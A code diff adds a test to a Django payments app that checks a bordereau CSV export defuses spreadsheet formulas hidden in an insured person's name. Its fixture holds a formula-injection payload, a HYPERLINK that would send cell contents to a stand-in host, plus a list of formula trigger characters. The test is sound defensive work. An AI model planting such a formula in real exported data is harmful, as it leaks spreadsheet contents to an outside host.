@@ -1,5 +1,7 @@
 """Downloads (PDF, CSV, transfer order) and the CNOPS dashboard: success, scope (404), validation."""
+import csv
 import hashlib
+import io
 from datetime import date, timedelta
 from decimal import Decimal
 
@@ -8,6 +10,7 @@ from django.urls import reverse
 
 from mutuelles.models import AMOFund
 from payments.services.bank_return import import_bank_return
+from tests.factories.beneficiaries import InsuredFactory
 from tests.factories.mutuelles import StaffFactory
 from tests.payments.support import bank_answer
 
@@ -121,6 +124,23 @@ def test_the_csv_is_utf8_with_bom_semicolons_and_decimal_points(client, borderea
     assert rows[1].split(";")[:3] == [bordereau.number, line.reference, line.claim_number]
     assert rows[1].split(";")[6:10] == ["120.00", "40.00", "160.00", "en attente"]
     assert len(rows) == 3
+
+
+def test_a_payee_named_like_a_formula_is_text_in_the_csv_and_amounts_stay_numbers(client, liquidated, build, mgpap,
+                                                                                  agent, payer_accounts):
+    # given an insured person whose name a spreadsheet would run as a formula
+    formula = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Voir")'
+    liquidated(1, insured=InsuredFactory(mutuelle=mgpap, last_name=formula, first_name="@Karim"))
+    bordereau = build(mgpap)
+    client.force_login(agent)
+    # when
+    response = client.get(reverse("payments:bordereau_csv", args=[bordereau.pk]))
+    # then
+    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
+    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
+    assert row[3] == row[4] == f"'@Karim {formula}"
+    assert row[6:9] == ["120.00", "40.00", "160.00"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
 
 def test_the_transfer_order_is_downloaded_with_its_hash(client, sent, fund_officer):
